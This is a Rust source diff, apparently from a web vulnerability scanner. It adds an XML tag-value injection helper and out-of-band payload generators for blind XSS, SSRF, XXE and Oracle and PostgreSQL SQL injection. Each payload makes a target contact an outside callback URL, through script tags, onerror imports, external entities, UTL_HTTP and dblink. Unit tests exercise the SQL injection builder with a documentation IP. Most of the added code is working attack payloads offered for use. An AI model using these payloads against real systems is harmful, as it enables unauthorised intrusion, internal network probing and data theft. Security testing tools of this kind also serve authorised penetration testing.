@@ -1,7 +1,8 @@
-use html_escape::{decode_html_entities, encode_safe};
+use html_escape::{decode_html_entities, encode_safe, encode_text};
 use regex::Regex;
 use serde_json::{Map, Value};
 use std::collections::HashMap;
+use url::Url;
 use urlencoding::encode;
 
 pub fn make_payloads_post(params: &str, payload: &str) -> Vec<String> {
@@ -206,3 +207,98 @@ pub fn xml_sikkishter(xml: &str, payloads: &[&str]) -> Vec<String> {
 
     results
 }
+
+
+// Leaf elements with their name, attributes, text and closing tag. xml_sikkish_each and whoever counts
+// the points of a document go by the same pattern so the indexes agree
+pub const XML_ELEMENT: &str = r"<([^>/\s]+)((?:\s[^>]*[^>/])?)>([^<]*)(</[^>]+>)";
+
+// Append the payload to one tag value at a time, keeping every other tag as it was. The document stays
+// as it was sent, entities included, only the payload gets escaped
+pub fn xml_sikkish_each(xml: &str, payload: &str) -> Vec<String> {
+    let mut results = Vec::new();
+    let tag_regex = Regex::new(XML_ELEMENT).unwrap();
+    let payload = encode_text(payload);
+
+    for caps in tag_regex.captures_iter(xml) {
+        let value = caps.get(3).unwrap();
+        let mut new_xml = xml.to_string();
+        new_xml.insert_str(value.end(), &payload);
+        results.push(new_xml);
+    }
+
+    results
+}
+
+// Out-of-band payloads, each makes whoever processes it request url
+
+// Blind XSS: fires wherever the value is rendered later, e.g. an admin panel
+pub fn oob_xss(url: &str) -> Vec<String> {
+    vec![
+        format!("\"><script src={}></script>", url),
+        format!("'><img src=x onerror=\"import('{}')\">", url),
+        format!("javascript:import('{}')", url),
+    ]
+}
+
+// Server-side request forgery: the value itself is fetched by the server
+pub fn oob_ssrf(url: &str) -> Vec<String> {
+    vec![url.to_string(), format!("{}?.png", url)]
+}
+
+// XXE: external entity and external parameter entity documents with root as the root element
+pub fn oob_xxe(url: &str, root: &str) -> Vec<String> {
+    vec![
+        format!(
+            "<?xml version=\"1.0\"?><!DOCTYPE {r} [<!ENTITY krk SYSTEM \"{u}\">]><{r}>&krk;</{r}>",
+            r = root,
+            u = url
+        ),
+        format!(
+            "<?xml version=\"1.0\"?><!DOCTYPE {r} [<!ENTITY % krk SYSTEM \"{u}\"> %krk;]><{r}/>",
+            r = root,
+            u = url
+        ),
+    ]
+}
+
+// SQL injection through the database's own network clients, keyed by DBMS name. Token is the last
+// path segment of url, dblink carries it as the user name of the connection attempt. Always the same
+// entries in the same order, callers index it by position
+pub fn oob_sqli(url: &str) -> Vec<(&'static str, String)> {
+    let (host, port, token) = match Url::parse(url) {
+        Ok(parsed) => (
+            parsed.host_str().unwrap_or_default().to_string(),
+            parsed.port_or_known_default().unwrap_or(80),
+            parsed.path().trim_start_matches('/').to_string(),
+        ),
+        Err(_) => (String::new(), 80, String::new()),
+    };
+    vec![
+        ("Oracle", format!("' AND 1=(SELECT UTL_HTTP.REQUEST('{}') FROM dual)-- -", url)),
+        ("Oracle", format!("' AND 1=(SELECT LENGTH(HTTPURITYPE('{}').GETCLOB()) FROM dual)-- -", url)),
+        (
+            "PostgreSQL",
+            format!("' AND 1=(SELECT 1 FROM dblink_connect('host={} port={} user={} dbname=krk'))-- -", host, port, token),
+        ),
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn oob_sqli_entries_do_not_depend_on_the_url() {
+        let names = |url: &str| oob_sqli(url).iter().map(|(name, _)| *name).collect::<Vec<_>>();
+        assert_eq!(names("http://localhost/"), names("not a url"));
+        assert_eq!(names("http://localhost/"), names("http://203.0.113.7:8899/krko0123456789ab"));
+    }
+
+    #[test]
+    fn oob_sqli_dblink_carries_the_token() {
+        let payloads = oob_sqli("http://203.0.113.7:8899/krko0123456789ab");
+        let (_, dblink) = payloads.iter().find(|(name, _)| *name == "PostgreSQL").unwrap();
+        assert!(dblink.contains("host=203.0.113.7 port=8899 user=krko0123456789ab"));
+    }
+}